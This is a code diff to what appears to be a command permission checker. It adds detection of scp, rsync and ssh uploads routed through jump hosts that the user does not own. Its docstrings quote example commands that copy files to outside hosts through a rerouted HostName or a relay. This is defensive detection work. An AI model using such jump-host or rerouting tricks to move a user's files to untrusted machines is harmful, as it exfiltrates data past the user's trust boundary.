@@ -1025,7 +1025,8 @@ def ssh_route(cmd: SimpleCommand, host: str) -> tuple[str, str]:
     makes the connection with any program, and `-F FILE` reads another configuration than the user's in place of
     ~/.ssh/config: an alias there may name any machine, so the name typed is no longer one the user's configuration
     names (round 12 ordinary: `scp -o HostName=203.0.113.9 app.tgz staging:` was allowed where ~/.ssh/config names
-    staging). -J (ProxyJump) only forwards the encrypted connection through the jump host: the host stays the one typed.
+    staging). -J (ProxyJump) only forwards the encrypted connection through the jump host: the host stays the one typed
+    (but the jump host resolves it: ssh_jumps, net.upload-own-host).
     Options are read in clusters as getopt reads them (`-4oHostName=…`, round loose15); scp's `-S PROGRAM`, rsync's
     `-e PROGRAM` other than ssh, ssh's `-S SOCKET` (an existing connection), and a resolver variable on the command
     (HOSTALIASES, LOCALDOMAIN, RES_OPTIONS: the name is looked up elsewhere) route it too."""
@@ -1036,21 +1037,8 @@ def ssh_route(cmd: SimpleCommand, host: str) -> tuple[str, str]:
         return host, "a resolver variable on the command decides what the name resolves to"
     if name in ("scp", "sftp", "ssh"):
         words = list(vals)
-    rsh = cmd.assigns.get("RSYNC_RSH") if name == "rsync" else None
     if name == "rsync":
-        shells: list[str] = []
-        for i, v in enumerate(vals):
-            if v in ("-e", "--rsh") and i + 1 < len(vals):
-                shells.append(vals[i + 1])
-            elif v.startswith("--rsh="):
-                shells.append(v[len("--rsh=") :])
-            elif v.startswith("-") and not v.startswith("--") and "e" in v[1:] and i + 1 < len(vals):
-                k = v.index("e", 1)
-                if not any(c in "fTB" for c in v[1:k]):  # `-avze CMD`, `-aeCMD`: the first valued letter is e
-                    shells.append(v[k + 1 :] or vals[i + 1])
-        if isinstance(rsh, str):
-            shells.append(rsh)
-        for sh in shells:
+        for sh in _rsync_shells(cmd):
             parts = sh.split()
             if parts and parts[0].rsplit("/", 1)[-1] != "ssh":
                 return host, f"rsync -e {parts[0]}: another program makes the connection"
@@ -1070,6 +1058,65 @@ def ssh_route(cmd: SimpleCommand, host: str) -> tuple[str, str]:
             if key in _ROUTE_KEYS and val.strip().lower() != "none":
                 return host, f"-o {key}: the connection goes elsewhere than the name typed"
     return host, ""
+
+
+def _rsync_shells(cmd: SimpleCommand) -> list[str]:
+    """The remote shells an rsync call is given (-e CMD, --rsh=CMD, a cluster ending in e, RSYNC_RSH on the command)."""
+    vals = cmd.values()
+    shells: list[str] = []
+    for i, v in enumerate(vals):
+        if v in ("-e", "--rsh") and i + 1 < len(vals):
+            shells.append(vals[i + 1])
+        elif v.startswith("--rsh="):
+            shells.append(v[len("--rsh=") :])
+        elif v.startswith("-") and not v.startswith("--") and "e" in v[1:] and i + 1 < len(vals):
+            k = v.index("e", 1)
+            if not any(c in "fTB" for c in v[1:k]):  # `-avze CMD`, `-aeCMD`: the first valued letter is e
+                shells.append(v[k + 1 :] or vals[i + 1])
+    rsh = cmd.assigns.get("RSYNC_RSH")
+    if isinstance(rsh, str):
+        shells.append(rsh)
+    return shells
+
+
+def ssh_jumps(cmd: SimpleCommand) -> list[str]:
+    """The jump hosts an ssh transfer goes through (-J HOST[,HOST], -o ProxyJump=HOST; in rsync's -e 'ssh …'), as
+    hosts (user@ and :port taken off).  Round 16f: with a jump, the name typed is resolved by the last jump host, not
+    by the user's own configuration: `scp -J relay.example.net -r . devbox:/tmp/` lets the relay say which machine
+    `devbox` is."""
+    if cmd.name == "rsync":
+        words: list[str] = []
+        for sh in _rsync_shells(cmd):
+            words += sh.split()[1:]
+        name = "ssh"
+    elif cmd.name in ("scp", "sftp", "ssh"):
+        words, name = list(cmd.values()), cmd.name
+    else:
+        return []
+    found: list[str] = []
+    for letter, value in _ssh_option_pairs(words, _SSH_VALUED.get(name, frozenset())):
+        if letter == "o":
+            key, _, val = value.strip("'\"").replace("=", " ", 1).partition(" ")
+            if key.strip().lower() != "proxyjump":
+                continue
+            value = val
+        elif letter != "J":
+            continue
+        for hop in value.strip().split(","):
+            h = hop.rpartition("@")[2].strip()
+            h = h[1 : h.index("]")] if h.startswith("[") and "]" in h else h.partition(":")[0]
+            if h and h.lower() != "none":
+                found.append(h)
+    return found
+
+
+def _jumps_elsewhere(cmd: SimpleCommand, sc: Scope) -> str | None:
+    """A jump host of *cmd* that is not the user's own (a one-label alias, a private or .local address, a trusted
+    host, a Host line of ~/.ssh/config), else None."""
+    for h in ssh_jumps(cmd):
+        if DYN in h or not (own_ssh_host(h) or sc.trust.host_is_trusted(h) or _ssh_config_names(h, sc, exact=True)):
+            return h
+    return None
 
 
 def _ssh_config_names(host: str, sc: Scope, exact: bool = False) -> bool:
@@ -1245,7 +1292,13 @@ def upload_own_host(cmd: SimpleCommand, sc: Scope) -> str | None:
     if got is None:
         return None
     host, routed = ssh_route(cmd, got[1])
-    if routed or not own_ssh_host(host) or sc.trust.host_is_trusted(host) or _ssh_config_names(host, sc):
+    if routed or not own_ssh_host(host) or sc.trust.host_is_trusted(host):
+        return None
+    jump = _jumps_elsewhere(cmd, sc)
+    if jump is not None:
+        # the name is resolved by the jump host, not by the user's configuration (round 16f)
+        return f"{cmd.name} sends {got[0]} to {host} through {jump}, which decides what machine that name is"
+    if _ssh_config_names(host, sc):
         return None
     sent = _scp_upload(cmd) if cmd.name in ("scp", "rsync") else None
     if sent is not None and any(c in sent[2] for c in _REMOTE_SHELL_CHARS):
@@ -1345,8 +1398,8 @@ def upload_ssh_host(cmd: SimpleCommand, sc: Scope) -> str | None:
     host, routed = ssh_route(cmd, typed)
     if routed or _renamed(typed, host) or _address(host) or sc.trust.host_is_trusted(host) or own_ssh_host(host):
         return None  # routed, renamed, unknown or a bare address: net.upload-untrusted; the user's own: net.upload-own-host
-    if _ssh_config_names(host, sc, exact=True):
-        return None
+    if _ssh_config_names(host, sc, exact=True) and _jumps_elsewhere(cmd, sc) is None:
+        return None  # (through a jump host not the user's, the name is resolved there: asked, round 16f)
     return (
         f"{cmd.name} copies {', '.join(sources) or 'files'} to {host}, a machine outside the trust boundary where the user's "
         "ssh keys open an account; whether the files should go there depends on intent"
